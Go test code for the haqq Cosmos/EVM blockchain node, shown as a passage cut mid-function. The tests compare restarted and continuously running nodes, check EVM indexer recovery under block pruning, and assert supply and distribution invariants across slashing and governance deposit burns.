			return zzBlock{txs: [][]byte{cosmosTx(erc20types.NewMsgConvertERC20(sdkmath.NewInt(100), addr2.Bytes(), coinPairContract, addr))}}
		},
	}

	header := h0
	header.ProposerAddress = cons
	_, hash := zzRun(a, header, votes, zzBlock{})

	for h := int64(2); h <= 24; h++ {
		// restart at the boundary
		b := zzOpen(zzCloneDB(t, db))
		require.Equal(t, a.LastBlockHeight(), b.LastBlockHeight(), "height after restart")
		require.True(t, bytes.Equal(a.LastCommitID().Hash, b.LastCommitID().Hash), "app hash after restart")
		ia, ib := a.Info(abci.RequestInfo{}), b.Info(abci.RequestInfo{})
		require.Equal(t, ia.LastBlockHeight, ib.LastBlockHeight)
		require.Equal(t, ia.LastBlockAppHash, ib.LastBlockAppHash)

		// queries at the boundary
		balOf, _ := erc20ABI.Pack("balanceOf", addr)
		callArgs := func(to common.Address, data []byte) []byte {
			hb := hexutil.Bytes(data)
			bz, _ := json.Marshal(&evmtypes.TransactionArgs{From: &addr, To: &to, Data: &hb})
			return bz
		}
		type q struct {
			path string
			req  codec.ProtoMarshaler
		}
		qs := []q{
			{"/cosmos.bank.v1beta1.Query/AllBalances", &banktypes.QueryAllBalancesRequest{Address: sdk.AccAddress(addr.Bytes()).String()}},
			{"/cosmos.bank.v1beta1.Query/TotalSupply", &banktypes.QueryTotalSupplyRequest{}},
			{"/cosmos.bank.v1beta1.Query/DenomsMetadata", &banktypes.QueryDenomsMetadataRequest{}},
			{"/ethermint.evm.v1.Query/Account", &evmtypes.QueryAccountRequest{Address: addr.Hex()}},
			{"/ethermint.evm.v1.Query/Balance", &evmtypes.QueryBalanceRequest{Address: addr.Hex()}},
			{"/ethermint.evm.v1.Query/Code", &evmtypes.QueryCodeRequest{Address: tokenAddr.Hex()}},
			{"/ethermint.evm.v1.Query/Params", &evmtypes.QueryParamsRequest{}},
			{"/ethermint.evm.v1.Query/BaseFee", &evmtypes.QueryBaseFeeRequest{}},
			{"/ethermint.evm.v1.Query/ValidatorAccount", &evmtypes.QueryValidatorAccountRequest{ConsAddress: sdk.ConsAddress(cons).String()}},
			{"/ethermint.evm.v1.Query/EthCall", &evmtypes.EthCallRequest{Args: callArgs(tokenAddr, balOf), GasCap: 25_000_000, ProposerAddress: cons, ChainId: a.EvmKeeper.ChainID().Int64()}},
			{"/ethermint.evm.v1.Query/EthCall", &evmtypes.EthCallRequest{Args: callArgs(coinPairContract, balOf), GasCap: 25_000_000, ProposerAddress: cons, ChainId: a.EvmKeeper.ChainID().Int64()}},
			{"/ethermint.evm.v1.Query/EstimateGas", &evmtypes.EthCallRequest{Args: callArgs(tokenAddr, transferData), GasCap: 25_000_000, ProposerAddress: cons, ChainId: a.EvmKeeper.ChainID().Int64()}},
			{"/ethermint.evm.v1.Query/EstimateGas", &evmtypes.EthCallRequest{Args: callArgs(stakingAddr, delegateData), GasCap: 25_000_000, ProposerAddress: cons, ChainId: a.EvmKeeper.ChainID().Int64()}},
			{"/ethermint.feemarket.v1.Query/BaseFee", &feemarkettypes.QueryBaseFeeRequest{}},
			{"/ethermint.feemarket.v1.Query/BlockGas", &feemarkettypes.QueryBlockGasRequest{}},
			{"/evmos.erc20.v1.Query/TokenPairs", &erc20types.QueryTokenPairsRequest{}},
			{"/evmos.epochs.v1.Query/EpochInfos", &epochstypes.QueryEpochsInfoRequest{}},
			{"/haqq.coinomics.v1.Query/RewardCoefficient", &coinomicstypes.QueryRewardCoefficientRequest{}},
			{"/haqq.coinomics.v1.Query/MaxSupply", &coinomicstypes.QueryMaxSupplyRequest{}},
			{"/cosmos.staking.v1beta1.Query/Validators", &stakingtypes.QueryValidatorsRequest{}},
			{"/cosmos.staking.v1beta1.Query/DelegatorDelegations", &stakingtypes.QueryDelegatorDelegationsRequest{DelegatorAddr: sdk.AccAddress(addr.Bytes()).String()}},
			{"/cosmos.staking.v1beta1.Query/DelegatorUnbondingDelegations", &stakingtypes.QueryDelegatorUnbondingDelegationsRequest{DelegatorAddr: sdk.AccAddress(addr.Bytes()).String()}},
			{"/cosmos.distribution.v1beta1.Query/DelegationTotalRewards", &distrtypes.QueryDelegationTotalRewardsRequest{DelegatorAddress: sdk.AccAddress(addr.Bytes()).String()}},
			{"/cosmos.distribution.v1beta1.Query/CommunityPool", &distrtypes.QueryCommunityPoolRequest{}},
			{"/cosmos.auth.v1beta1.Query/Account", &authtypes.QueryAccountRequest{Address: sdk.AccAddress(addr.Bytes()).String()}},
			{"/cosmos.auth.v1beta1.Query/ModuleAccounts", &authtypes.QueryModuleAccountsRequest{}},
		}
		for _, qq := range qs {
			bz, err := qq.req.Marshal()
			require.NoError(t, err)
			ra := a.Query(abci.RequestQuery{Path: qq.path, Data: bz})
			rb := b.Query(abci.RequestQuery{Path: qq.path, Data: bz})
			if ra.Code != rb.Code || !bytes.Equal(ra.Value, rb.Value) || ra.Log != rb.Log || ra.Height != rb.Height {
				t.Errorf("height %d: query %s differs after restart:\n continuous: code=%d height=%d log=%q value=%x\n restarted:  code=%d height=%d log=%q value=%x", h-1, qq.path, ra.Code, ra.Height, ra.Log, ra.Value, rb.Code, rb.Height, rb.Log, rb.Value)
			}
		}

		header = tmproto.Header{ChainID: zzChainID, Height: h, Time: header.Time.Add(6 * time.Second), ProposerAddress: cons, AppHash: hash}
		curHeader = header
		blk := zzBlock{}
		if mk, ok := blocks[h]; ok {
			blk = mk()
		}
		for i, bz := range blk.txs {
			ca := a.CheckTx(abci.RequestCheckTx{Tx: bz})
			cb := b.CheckTx(abci.RequestCheckTx{Tx: bz})
			if ca.Code != cb.Code || ca.Log != cb.Log || ca.GasWanted != cb.GasWanted || ca.Priority != cb.Priority || ca.GasUsed != cb.GasUsed {
				t.Errorf("height %d: CheckTx of tx %d differs after restart:\n continuous: code=%d gw=%d gu=%d prio=%d log=%q\n restarted:  code=%d gw=%d gu=%d prio=%d log=%q", h-1, i, ca.Code, ca.GasWanted, ca.GasUsed, ca.Priority, ca.Log, cb.Code, cb.GasWanted, cb.GasUsed, cb.Priority, cb.Log)
			}
		}
		if h == 8 {
			qctx, err := b.CreateQueryContext(0, false)
			require.NoError(t, err)
			_, err = b.EvmKeeper.EVMConfig(qctx, qctx.BlockHeader().ProposerAddress, b.EvmKeeper.ChainID())
			t.Logf("restarted node, EVMConfig in the query context: %v", err)
			qctx, err = a.CreateQueryContext(0, false)
			require.NoError(t, err)
			_, err = a.EvmKeeper.EVMConfig(qctx, qctx.BlockHeader().ProposerAddress, a.EvmKeeper.ChainID())
			t.Logf("continuous node, EVMConfig in the query context: %v", err)
		}
		outA, hashA := zzRun(a, header, votes, blk)
		outB, hashB := zzRun(b, header, votes, blk)
		t.Logf("height %d: %v", h, outA)
		require.Equal(t, outA, outB, "results of block %d differ between the continuous and the restarted node", h)
		require.Equal(t, fmt.Sprintf("%X", hashA), fmt.Sprintf("%X", hashB), "app hash of block %d differs between the continuous and the restarted node", h)
		hash = hashA
	}
}
