package server_test

import (
	"context"
	"fmt"
	"math/big"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	tmlog "github.com/cometbft/cometbft/libs/log"
	rpcclient "github.com/cometbft/cometbft/rpc/client"
	coretypes "github.com/cometbft/cometbft/rpc/core/types"
	tmtypes "github.com/cometbft/cometbft/types"
	"github.com/cosmos/cosmos-sdk/client"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	evmenc "github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/indexer"
	"github.com/haqq-network/haqq/server"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzChain is the CometBFT side of a node: the block store (with its pruning base) and the event bus.
type zzChain struct {
	rpcclient.Client // nil: only the four methods the indexer service uses are implemented

	mu      sync.Mutex
	latest  int64
	base    int64 // lowest height the block store still has (min-retain-blocks / pruning)
	blocks  map[int64]*tmtypes.Block
	results map[int64][]*abci.ResponseDeliverTx
	events  chan coretypes.ResultEvent

	pruned atomic.Int64 // number of requests for a pruned height
}

func (c *zzChain) Status(context.Context) (*coretypes.ResultStatus, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return &coretypes.ResultStatus{SyncInfo: coretypes.SyncInfo{LatestBlockHeight: c.latest, EarliestBlockHeight: c.base}}, nil
}

func (c *zzChain) Subscribe(context.Context, string, string, ...int) (<-chan coretypes.ResultEvent, error) {
	return c.events, nil
}

func (c *zzChain) Block(_ context.Context, h *int64) (*coretypes.ResultBlock, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if *h < c.base {
		c.pruned.Add(1)
		time.Sleep(time.Millisecond) // keep the retry loop from eating the machine
		return nil, fmt.Errorf("height %d is not available, lowest height is %d", *h, c.base)
	}
	b, ok := c.blocks[*h]
	if !ok {
		b = &tmtypes.Block{Header: tmtypes.Header{Height: *h}}
	}
	return &coretypes.ResultBlock{Block: b}, nil
}

func (c *zzChain) BlockResults(_ context.Context, h *int64) (*coretypes.ResultBlockResults, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if *h < c.base {
		return nil, fmt.Errorf("height %d is not available, lowest height is %d", *h, c.base)
	}
	return &coretypes.ResultBlockResults{Height: *h, TxsResults: c.results[*h]}, nil
}

// commit adds a block and announces it like the event bus does after Commit
func (c *zzChain) commit(h int64, txs []tmtypes.Tx, res []*abci.ResponseDeliverTx) {
	c.mu.Lock()
	c.latest = h
	c.blocks[h] = &tmtypes.Block{Header: tmtypes.Header{Height: h}, Data: tmtypes.Data{Txs: txs}}
	c.results[h] = res
	c.mu.Unlock()
	select {
	case c.events <- coretypes.ResultEvent{Data: tmtypes.EventDataNewBlockHeader{Header: tmtypes.Header{Height: h}}}:
	default:
	}
}

func newZZChain() *zzChain {
	return &zzChain{base: 1, blocks: map[int64]*tmtypes.Block{}, results: map[int64][]*abci.ResponseDeliverTx{}, events: make(chan coretypes.ResultEvent, 100)}
}

func zzEthTx(t *testing.T, clientCtx client.Context, priv *ethsecp256k1.PrivKey, nonce uint64) (tmtypes.Tx, *abci.ResponseDeliverTx, common.Hash) {
	from := common.BytesToAddress(priv.PubKey().Address().Bytes())
	to := common.BigToAddress(big.NewInt(1))
	tx := evmtypes.NewTx(&evmtypes.EvmTxArgs{Nonce: nonce, To: &to, Amount: big.NewInt(1000), GasLimit: 21000})
	tx.From = from.Hex()
	require.NoError(t, tx.Sign(ethtypes.LatestSignerForChainID(nil), utiltx.NewSigner(priv)))
	hash := tx.AsTransaction().Hash()
	tmTx, err := tx.BuildTx(clientCtx.TxConfig.NewTxBuilder(), utils.BaseDenom)
	require.NoError(t, err)
	bz, err := clientCtx.TxConfig.TxEncoder()(tmTx)
	require.NoError(t, err)
	res := &abci.ResponseDeliverTx{Code: 0, Events: []abci.Event{{Type: evmtypes.EventTypeEthereumTx, Attributes: []abci.EventAttribute{
		{Key: "ethereumTxHash", Value: hash.Hex()}, {Key: "txIndex", Value: "0"}, {Key: "amount", Value: "1000"},
		{Key: "txGasUsed", Value: "21000"}, {Key: "txHash", Value: ""}, {Key: "recipient", Value: to.Hex()},
	}}}}
	return bz, res, hash
}

func zzWaitIndexed(idx *indexer.KVIndexer, hash common.Hash, d time.Duration) bool {
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		if r, err := idx.GetByTxHash(hash); err == nil && r != nil {
			return true
		}
		time.Sleep(10 * time.Millisecond)
	}
	return false
}

// A node with the EVM indexer enabled and CometBFT block pruning (min-retain-blocks). Ethereum tx T1 is in
// block 5, blocks 6..39 carry no Ethereum transactions, T2 is in block 40. The block store keeps heights >= 30.
//
// - the node that never stopped has indexed T1 and T2;
// - the node that was stopped after committing block 39 and restarted must answer the same.
func TestZZIndexerCursorIsNotRebuiltOnRestart(t *testing.T) {
	enc := evmenc.MakeConfig(app.ModuleBasics)
	clientCtx := client.Context{}.WithTxConfig(enc.TxConfig).WithCodec(enc.Codec)
	priv, err := ethsecp256k1.GenerateKey()
	require.NoError(t, err)
	tx1, res1, hash1 := zzEthTx(t, clientCtx, priv, 0)
	tx2, res2, hash2 := zzEthTx(t, clientCtx, priv, 1)

	history := func(c *zzChain, from, to int64) {
		for h := from; h <= to; h++ {
			switch h {
			case 5:
				c.commit(h, []tmtypes.Tx{tx1}, []*abci.ResponseDeliverTx{res1})
			case 40:
				c.commit(h, []tmtypes.Tx{tx2}, []*abci.ResponseDeliverTx{res2})
			default:
				c.commit(h, nil, nil)
			}
			if h > 10 {
				c.mu.Lock()
				c.base = h - 10 // the block store retains the last ten blocks
				c.mu.Unlock()
			}
			time.Sleep(5 * time.Millisecond) // the indexer follows the chain block by block
		}
	}

	// ---- the node that never stopped
	chainA := newZZChain()
	history(chainA, 1, 4)
	idxA := indexer.NewKVIndexer(dbm.NewMemDB(), tmlog.NewNopLogger(), clientCtx)
	go func() { _ = server.NewEVMIndexerService(idxA, chainA).OnStart() }()
	time.Sleep(50 * time.Millisecond)
	history(chainA, 5, 40)
	require.True(t, zzWaitIndexed(idxA, hash1, 2*time.Second), "continuous node: T1 indexed")
	require.True(t, zzWaitIndexed(idxA, hash2, 2*time.Second), "continuous node: T2 indexed")

	// ---- the node that is stopped after block 39 and restarted from its databases
	chainB := newZZChain()
	history(chainB, 1, 4)
	dbB := dbm.NewMemDB()
	idxB := indexer.NewKVIndexer(dbB, tmlog.NewNopLogger(), clientCtx)
	go func() { _ = server.NewEVMIndexerService(idxB, chainB).OnStart() }()
	time.Sleep(50 * time.Millisecond)
	history(chainB, 5, 39)
	require.True(t, zzWaitIndexed(idxB, hash1, 2*time.Second), "node B before the stop: T1 indexed")
	// stop: the first service gets no more events (its process is gone); restart on the same indexer database
	chainB2 := newZZChain()
	chainB2.blocks, chainB2.results, chainB2.latest, chainB2.base = chainB.blocks, chainB.results, 39, 29
	idxB2 := indexer.NewKVIndexer(dbB, tmlog.NewNopLogger(), clientCtx)
	last, err := idxB2.LastIndexedBlock()
	require.NoError(t, err)
	t.Logf("restarted node: indexer database says last indexed block = %d, block store has heights >= %d, latest = %d", last, chainB2.base, chainB2.latest)
	go func() { _ = server.NewEVMIndexerService(idxB2, chainB2).OnStart() }()
	time.Sleep(50 * time.Millisecond)
	chainB2.commit(40, []tmtypes.Tx{tx2}, []*abci.ResponseDeliverTx{res2})

	got := zzWaitIndexed(idxB2, hash2, 3*time.Second)
	t.Logf("restarted node: requests for pruned heights during 3s: %d", chainB2.pruned.Load())
	require.True(t, got, "the restarted node never indexes T2 (block 40): eth_getTransactionByHash/Receipt answer null, the node that never stopped answers the transaction")
}
