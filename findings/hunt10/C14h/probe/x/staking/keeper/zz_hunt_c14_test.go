package keeper_test

import (
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cosmos/cosmos-sdk/crypto/keys/ed25519"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	bankkeeper "github.com/cosmos/cosmos-sdk/x/bank/keeper"
	distrkeeper "github.com/cosmos/cosmos-sdk/x/distribution/keeper"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	govkeeper "github.com/cosmos/cosmos-sdk/x/gov/keeper"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"
	govv1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1"
	slashingtypes "github.com/cosmos/cosmos-sdk/x/slashing/types"
	stakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/testutil/integration/haqq/network"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
)

type zzSnap struct {
	supply   sdk.Coins
	distrBal sdk.Coins
	holdings sdk.DecCoins // community pool + all outstanding rewards
	pool     sdk.DecCoins
}

func zzTake(ctx sdk.Context, nw *network.UnitTestNetwork) zzSnap {
	var s zzSnap
	nw.App.BankKeeper.IterateTotalSupply(ctx, func(c sdk.Coin) bool {
		s.supply = s.supply.Add(c)
		return false
	})
	s.distrBal = nw.App.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(distrtypes.ModuleName))
	s.pool = nw.App.DistrKeeper.GetFeePoolCommunityCoins(ctx)
	s.holdings = s.pool
	nw.App.DistrKeeper.IterateValidatorOutstandingRewards(ctx, func(_ sdk.ValAddress, r distrtypes.ValidatorOutstandingRewards) bool {
		s.holdings = s.holdings.Add(r.Rewards...)
		return false
	})
	return s
}

func zzInvariants(t *testing.T, ctx sdk.Context, nw *network.UnitTestNetwork, where string) {
	msg, broken := bankkeeper.TotalSupply(nw.App.BankKeeper)(ctx)
	require.False(t, broken, "%s: bank supply invariant: %s", where, msg)
	msg, broken = distrkeeper.ModuleAccountInvariant(nw.App.DistrKeeper)(ctx)
	require.False(t, broken, "%s: distribution module account invariant: %s", where, msg)
	msg, broken = distrkeeper.CanWithdrawInvariant(nw.App.DistrKeeper)(ctx)
	require.False(t, broken, "%s: distribution can-withdraw invariant: %s", where, msg)
	msg, broken = distrkeeper.ReferenceCountInvariant(nw.App.DistrKeeper)(ctx)
	require.False(t, broken, "%s: distribution reference count invariant: %s", where, msg)
	msg, broken = stakingkeeper.ModuleAccountInvariants(nw.App.StakingKeeper.Keeper)(ctx)
	require.False(t, broken, "%s: staking module accounts invariant: %s", where, msg)
	msg, broken = stakingkeeper.DelegatorSharesInvariant(nw.App.StakingKeeper.Keeper)(ctx)
	require.False(t, broken, "%s: staking delegator shares invariant: %s", where, msg)
	msg, broken = govkeeper.ModuleAccountInvariant(&nw.App.GovKeeper, nw.App.BankKeeper)(ctx)
	require.False(t, broken, "%s: gov module account invariant: %s", where, msg)
}

// TestZZHuntC14History drives a history of slashes over bonded, unbonding and redelegated stake
// and deposit burns in several denominations and checks the property after every step:
// supply unchanged, distribution holdings and the distribution module balance grow by exactly the burned amount.
func TestZZHuntC14History(t *testing.T) {
	nw := network.NewUnitTestNetwork()
	ctx := nw.GetContext()
	sk := nw.App.StakingKeeper

	del, _ := utiltx.NewAccAddressAndKey()
	del2, _ := utiltx.NewAccAddressAndKey()
	other := "ibc/27394FB092D2ECCD56123C74F36E4C1F926001CEADA9CA97EA622B25F41E5EB2"
	fund := sdk.NewCoins(
		sdk.NewCoin(utils.BaseDenom, math.NewIntWithDecimal(1000, 18)),
		sdk.NewCoin(other, math.NewInt(1_000_000_007)),
	)
	require.NoError(t, testutil.FundAccount(ctx, nw.App.BankKeeper, del, fund))
	require.NoError(t, testutil.FundAccount(ctx, nw.App.BankKeeper, del2, fund))

	vals := nw.GetValidators()
	require.GreaterOrEqual(t, len(vals), 2)
	v0, v1 := vals[0], vals[1]
	cons0, err := v0.GetConsAddr()
	require.NoError(t, err)
	cons1, err := v1.GetConsAddr()
	require.NoError(t, err)

	// a new validator that will stay out of the active set? (not needed) -- use the existing ones
	_ = ed25519.GenPrivKey

	infractionHeight := ctx.BlockHeight()

	// delegate 100 ISLM (odd amount) to v0
	amt := math.NewIntWithDecimal(100, 18).AddRaw(333)
	v0, _ = sk.GetValidator(ctx, v0.GetOperator())
	_, err = sk.Delegate(ctx, del, amt, stakingtypes.Unbonded, v0, true)
	require.NoError(t, err)
	v0, _ = sk.GetValidator(ctx, v0.GetOperator())
	_, err = sk.Delegate(ctx, del2, amt.MulRaw(2).AddRaw(1), stakingtypes.Unbonded, v0, true)
	require.NoError(t, err)

	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()
	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()

	// rewards with fractional parts for both validators, so that slashing interleaves with reward accounting
	reward := func(v stakingtypes.Validator, n int64) {
		c := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewInt(n)), sdk.NewCoin(other, math.NewInt(n/1000+1)))
		require.NoError(t, testutil.FundModuleAccount(ctx, nw.App.BankKeeper, distrtypes.ModuleName, c))
		vv, _ := sk.GetValidator(ctx, v.GetOperator())
		nw.App.DistrKeeper.AllocateTokensToValidator(ctx, vv, sdk.NewDecCoinsFromCoins(c...))
	}
	reward(v0, 1_000_000_000_000_000_007)
	reward(v1, 999_999_999_999_999_989)
	shares := func(d sdk.AccAddress, v sdk.ValAddress, a math.Int) sdk.Dec {
		sh, err := sk.ValidateUnbondAmount(ctx, d, v, a)
		require.NoError(t, err)
		return sh
	}
	// redelegate a third to v1, undelegate a bit from v0, and undelegate a part of the redelegated stake from v1
	_, err = sk.BeginRedelegation(ctx, del, v0.GetOperator(), v1.GetOperator(), shares(del, v0.GetOperator(), amt.QuoRaw(3)))
	require.NoError(t, err)
	_, err = sk.Undelegate(ctx, del, v0.GetOperator(), shares(del, v0.GetOperator(), amt.QuoRaw(7)))
	require.NoError(t, err)
	_, err = sk.Undelegate(ctx, del, v1.GetOperator(), shares(del, v1.GetOperator(), amt.QuoRaw(11)))
	require.NoError(t, err)
	_, err = sk.BeginRedelegation(ctx, del2, v0.GetOperator(), v1.GetOperator(), shares(del2, v0.GetOperator(), amt.QuoRaw(5)))
	require.NoError(t, err)

	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()
	reward(v0, 777_777_777_777_777_777)
	reward(v1, 13)
	zzInvariants(t, ctx, nw, "before slashing")

	step := func(name string, f func(ctx sdk.Context) sdk.Coins) {
		before := zzTake(ctx, nw)
		burned := f(ctx)
		after := zzTake(ctx, nw)
		t.Logf("%s: burned %s; pool %s -> %s", name, burned, before.pool, after.pool)
		require.Equal(t, before.supply.String(), after.supply.String(), "%s: total supply must not change", name)
		require.Equal(t, before.distrBal.Add(burned...).String(), after.distrBal.String(), "%s: distribution module balance must grow by the burned amount", name)
		require.Equal(t, before.holdings.Add(sdk.NewDecCoinsFromCoins(burned...)...).String(), after.holdings.String(), "%s: community pool + outstanding rewards must grow by the burned amount", name)
		require.True(t, after.pool.Sub(before.pool).IsAllPositive() || burned.IsZero(), "%s: pool must grow", name)
		zzInvariants(t, ctx, nw, name)
	}

	poolsTotal := func(ctx sdk.Context) math.Int {
		b := nw.App.BankKeeper.GetBalance(ctx, authtypes.NewModuleAddress(stakingtypes.BondedPoolName), utils.BaseDenom).Amount
		nb := nw.App.BankKeeper.GetBalance(ctx, authtypes.NewModuleAddress(stakingtypes.NotBondedPoolName), utils.BaseDenom).Amount
		return b.Add(nb)
	}
	slash := func(cons sdk.ConsAddress, height int64, factor sdk.Dec) func(ctx sdk.Context) sdk.Coins {
		return func(ctx sdk.Context) sdk.Coins {
			val, found := sk.GetValidatorByConsAddr(ctx, cons)
			require.True(t, found)
			power := val.GetConsensusPower(sk.PowerReduction(ctx))
			p0 := poolsTotal(ctx)
			sk.Slash(ctx, cons, height, power, factor)
			return sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, p0.Sub(poolsTotal(ctx))))
		}
	}

	// 1. double-sign like slash of v0 for an infraction before the redelegations/undelegations
	step("slash v0 bonded, old infraction", slash(cons0, infractionHeight, sdk.NewDecWithPrec(5, 2)))
	// 2. downtime like slash at the current height
	step("slash v0 bonded, current height", slash(cons0, ctx.BlockHeight(), sdk.NewDecWithPrec(1, 4)))
	// 3. jail v0, let it go unbonding, slash again for the old infraction
	sk.Jail(ctx, cons0)
	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()
	val0, _ := sk.GetValidatorByConsAddr(ctx, cons0)
	require.Equal(t, stakingtypes.Unbonding, val0.GetStatus())
	step("slash v0 unbonding, old infraction", slash(cons0, infractionHeight, sdk.NewDecWithPrec(333333, 6)))
	reward(v0, 31_337_000_000_000_001)
	reward(v1, 31_337_000_000_000_003)
	// 4. slash the redelegation destination too, fraction 1
	step("slash v1 bonded, fraction one", slash(cons1, infractionHeight, sdk.OneDec()))
	step("slash v0 unbonding, fraction one", slash(cons0, infractionHeight, sdk.OneDec()))

	// 5. proposals with deposits in two denominations, burned
	gk := nw.App.GovKeeper
	mk := func(depositor sdk.AccAddress, dep sdk.Coins) uint64 {
		prop, err := gk.SubmitProposal(ctx, []sdk.Msg{}, "", "t", "s", depositor)
		require.NoError(t, err)
		_, err = gk.AddDeposit(ctx, prop.Id, depositor, dep)
		require.NoError(t, err)
		return prop.Id
	}
	dep1 := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewInt(7)), sdk.NewCoin(other, math.NewInt(1_000_000_007)))
	dep2 := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewIntWithDecimal(500, 18)))
	id1 := mk(del, dep1)
	step("burn deposits of proposal 1 directly", func(ctx sdk.Context) sdk.Coins {
		gk.DeleteAndBurnDeposits(ctx, id1)
		return dep1
	})

	// 6. a vetoed proposal through the gov end blocker
	params := gk.GetParams(ctx)
	params.MinDeposit = sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewIntWithDecimal(500, 18)))
	params.BurnProposalDepositPrevote = true
	require.NoError(t, gk.SetParams(ctx, params))
	// a proposal that never reaches the minimum deposit: burned at the end of the deposit period
	id3 := mk(del, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewInt(12345))))
	_ = id3
	id2 := mk(del2, dep2)
	_, err = gk.AddDeposit(ctx, id2, del, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewInt(1))))
	require.NoError(t, err)
	prop2, ok := gk.GetProposal(ctx, id2)
	require.True(t, ok)
	require.Equal(t, govv1.StatusVotingPeriod, prop2.Status, "min deposit %s", params.MinDeposit)
	for _, v := range nw.GetValidators() {
		vv, _ := sk.GetValidator(ctx, v.GetOperator())
		if !vv.IsBonded() {
			continue
		}
		require.NoError(t, gk.AddVote(ctx, id2, sdk.AccAddress(v.GetOperator()), govv1.NewNonSplitVoteOption(govv1.OptionNoWithVeto), ""))
	}
	before := zzTake(ctx, nw)
	govBefore := nw.App.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(govtypes.ModuleName))
	require.NoError(t, nw.NextBlockAfter(*params.VotingPeriod+time.Second))
	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()
	prop2, ok = gk.GetProposal(ctx, id2)
	require.True(t, ok)
	require.Equal(t, govv1.StatusRejected, prop2.Status)
	after := zzTake(ctx, nw)
	govAfter := nw.App.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(govtypes.ModuleName))
	require.True(t, govAfter.IsZero(), "gov account emptied: %s -> %s", govBefore, govAfter)
	// a block passed: coinomics may have minted; the deposit must nevertheless be in the pool
	gotPool := after.pool.Sub(before.pool).AmountOf(utils.BaseDenom)
	require.True(t, gotPool.GTE(sdk.NewDecFromInt(govBefore.AmountOf(utils.BaseDenom))), "pool grew by %s, deposit %s", gotPool, govBefore)
	require.True(t, after.supply.AmountOf(utils.BaseDenom).GTE(before.supply.AmountOf(utils.BaseDenom)), "supply must not shrink")
	zzInvariants(t, ctx, nw, "after veto")

	// a few more blocks: the distribution begin blocker must keep working
	for i := 0; i < 3; i++ {
		require.NoError(t, nw.NextBlock())
	}
	ctx = nw.GetContext()
	zzInvariants(t, ctx, nw, "end")
}

// TestZZHuntC14ABCI feeds real double-sign evidence and missed signatures through BeginBlock.
func TestZZHuntC14ABCI(t *testing.T) {
	nw := network.NewUnitTestNetwork()
	ctx := nw.GetContext()
	sk := nw.App.StakingKeeper

	sp := nw.App.SlashingKeeper.GetParams(ctx)
	sp.SignedBlocksWindow = 4
	sp.MinSignedPerWindow = sdk.NewDecWithPrec(75, 2)
	sp.SlashFractionDowntime = sdk.NewDecWithPrec(3, 2)
	sp.SlashFractionDoubleSign = sdk.NewDecWithPrec(7, 2)
	require.NoError(t, nw.App.SlashingKeeper.SetParams(ctx, sp))

	del, _ := utiltx.NewAccAddressAndKey()
	require.NoError(t, testutil.FundAccount(ctx, nw.App.BankKeeper, del, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, math.NewIntWithDecimal(1000, 18)))))
	vals := nw.GetValidators()
	require.GreaterOrEqual(t, len(vals), 3)
	for i := range vals {
		// the test genesis has bonded validators without signing infos; a real chain creates them in AfterValidatorBonded
		c, err := vals[i].GetConsAddr()
		require.NoError(t, err)
		if !nw.App.SlashingKeeper.HasValidatorSigningInfo(ctx, c) {
			nw.App.SlashingKeeper.SetValidatorSigningInfo(ctx, c, slashingtypes.NewValidatorSigningInfo(c, ctx.BlockHeight(), 0, time.Unix(0, 0), false, 0))
		}
	}
	for i := 0; i < 3; i++ {
		v, _ := sk.GetValidator(ctx, vals[i].GetOperator())
		_, err := sk.Delegate(ctx, del, math.NewIntWithDecimal(100, 18).AddRaw(int64(i*7+1)), stakingtypes.Unbonded, v, true)
		require.NoError(t, err)
	}
	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()
	infractionHeight := ctx.BlockHeight()
	infractionTime := ctx.BlockTime()
	// move stake around after the infraction
	sh, err := sk.ValidateUnbondAmount(ctx, del, vals[0].GetOperator(), math.NewIntWithDecimal(30, 18))
	require.NoError(t, err)
	_, err = sk.BeginRedelegation(ctx, del, vals[0].GetOperator(), vals[1].GetOperator(), sh)
	require.NoError(t, err)
	_, err = sk.Undelegate(ctx, del, vals[0].GetOperator(), sh.QuoInt64(3))
	require.NoError(t, err)
	require.NoError(t, nw.NextBlock())
	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()

	cons := func(i int) sdk.ConsAddress {
		c, err := vals[i].GetConsAddr()
		require.NoError(t, err)
		return c
	}
	power := func(i int) int64 {
